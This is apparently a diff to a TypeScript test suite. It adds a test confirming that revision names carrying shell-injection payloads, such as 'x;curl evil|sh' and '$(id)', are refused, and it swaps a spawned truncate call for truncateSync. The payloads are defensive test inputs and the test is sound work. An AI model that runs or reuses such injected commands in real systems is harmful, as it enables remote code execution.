@@ -10,6 +10,7 @@ import {
   renameSync,
   rmSync,
   symlinkSync,
+  truncateSync,
   writeFileSync,
 } from "node:fs";
 import { join, posix, win32 } from "node:path";
@@ -511,9 +512,22 @@ describe("reading", () => {
     expect(snapshot(folder, /^steps\/$/)).toMatchObject(start);
   });
 
+  it("takes no revision that could run as a part of a command", () => {
+    const folder = emptyFolder();
+    mkdirSync(join(folder, "steps"));
+    for (const id of ["x;curl evil|sh", "$(id)", "\u001b[2J", "a b"]) {
+      writeFileSync(join(folder, "steps/evil.txt"), `revision = "${id}"\nafter = None\n`);
+      if (stack === undefined) throw new Error("no stack");
+      expect(refusal(folder, () => readRevisions(folder, stack))).toMatch(
+        /evil\.txt names the revision .* no plain word/,
+      );
+    }
+  });
+
   it("a file that is larger than 64 MiB is somebody's own, and is not read", () => {
     const folder = emptyFolder();
-    spawnSync("truncate", ["-s", "3G", join(folder, "main.txt")]);
+    writeFileSync(join(folder, "main.txt"), "");
+    truncateSync(join(folder, "main.txt"), 3 * 2 ** 30);
     expect(readStandings(folder, ["main.txt"]).get("main.txt")).toEqual({ obstacle: "other" });
   });
 });
